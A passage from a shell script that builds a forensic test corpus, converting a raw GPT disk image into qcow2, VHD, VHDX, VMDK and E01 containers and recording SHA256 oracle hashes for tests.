# Needs qemu-utils ewf-tools. The oracle for each is `qemu-img convert -O raw` / `ewfexport`,
# recorded as containers/SHA256SUMS (sha256 of the media each container holds).
build_containers() {
  local raw=$WORK/cdisk.img c=$HERE/containers
  zstd -q -d -f "$OUT/gpt-disk.img.zst" -o "$raw"
  rm -rf "$c"; mkdir -p "$c"; local t=$WORK/cont; rm -rf "$t"; mkdir -p "$t"
  ( cd "$t"
    qemu-img convert -f raw -O qcow2 "$raw" disk.qcow2
    qemu-img convert -f raw -O qcow2 -o compat=0.10 "$raw" disk-v2.qcow2
    qemu-img convert -f raw -O qcow2 -c "$raw" disk-compressed.qcow2
    qemu-img convert -f raw -O qcow2 -c -o compression_type=zstd "$raw" disk-zstd.qcow2
    # A backing chain: the overlay changes 64 KiB at 1 MiB + 4 KiB, the rest comes from its base.
    qemu-img create -q -f qcow2 -b disk.qcow2 -F qcow2 disk-overlay.qcow2
    qemu-io -c 'write -P 0x41 1052672 65536' disk-overlay.qcow2 >/dev/null
    qemu-img convert -f raw -O vpc -o subformat=dynamic,force_size=on "$raw" disk-dynamic.vhd
    qemu-img convert -f raw -O vpc -o subformat=fixed,force_size=on "$raw" disk-fixed.vhd
    qemu-img convert -f raw -O vhdx -o subformat=dynamic "$raw" disk-dynamic.vhdx
    qemu-img convert -f raw -O vhdx -o subformat=fixed "$raw" disk-fixed.vhdx
    qemu-img convert -f raw -O vmdk -o subformat=monolithicSparse "$raw" disk-sparse.vmdk
    qemu-img convert -f raw -O vmdk -o subformat=streamOptimized "$raw" disk-stream.vmdk
    qemu-img convert -f raw -O vmdk -o subformat=twoGbMaxExtentSparse "$raw" disk-2gb.vmdk
    qemu-img convert -f raw -O vmdk -o subformat=monolithicFlat "$raw" disk-flat.vmdk
    ewfacquire -u -q -t disk-e01 -f encase6 -c deflate:fast -C CASE-42 -e "Examiner Name" -E EV-7 \
      -D "GPT corpus disk" -N "made by corpus/build.sh" -d sha1 "$raw" >/dev/null
    ewfacquire -u -q -t disk-split -f encase6 -c none -S 20MiB -C CASE-42 -e "Examiner Name" -E EV-8 \
      -D "GPT corpus disk, split" "$raw" >/dev/null
    ewfacquire -u -q -t disk-ftk -f ftk -c deflate:best -C CASE-43 -e "Examiner Name" -E EV-9 \
      -D "GPT corpus disk, FTK style" "$raw" >/dev/null
    : >SHA256SUMS
    for f in *.qcow2 *.vhd *.vhdx disk-sparse.vmdk disk-stream.vmdk disk-2gb.vmdk disk-flat.vmdk; do
      local fmt=${f##*.}; case $fmt in vhd) fmt=vpc ;; esac   # say the format: a fixed VHD probes as raw
      qemu-img convert -f "$fmt" -O raw "$f" "$WORK/oracle.raw"
      printf '%s  %s\n' "$(sha256sum <"$WORK/oracle.raw" | cut -d' ' -f1)" "$f" >>SHA256SUMS
    done
    for f in disk-e01.E01 disk-split.E01 disk-ftk.E01; do
      rm -f "$WORK/oracle.raw"*; ewfexport -u -q -t "$WORK/oracle" -f raw "$f" >/dev/null
      printf '%s  %s\n' "$(sha256sum <"$WORK/oracle.raw" | cut -d' ' -f1)" "$f" >>SHA256SUMS
    done
    ewfinfo disk-e01.E01 >disk-e01.ewfinfo.txt
  )
  # Compress every file (zstd keeps sparse regions tiny); tests decompress them into target/.
  for f in "$t"/*; do
    case "$f" in *.txt|*/SHA256SUMS) cp "$f" "$c/" ;; *) zstd -q -19 --long -f "$f" -o "$c/$(basename "$f").zst" ;; esac
  done
}

for step in ${STEPS:-ntfs ext4 inline ext23 gpt mbr cycle linux_debian linux_rhel linux_auth windows_tasks windows_vss lvm lvm_kinds other_fs containers}; do
  echo "building $step" >&2
  "build_$step"
done
ls -la "$OUT"
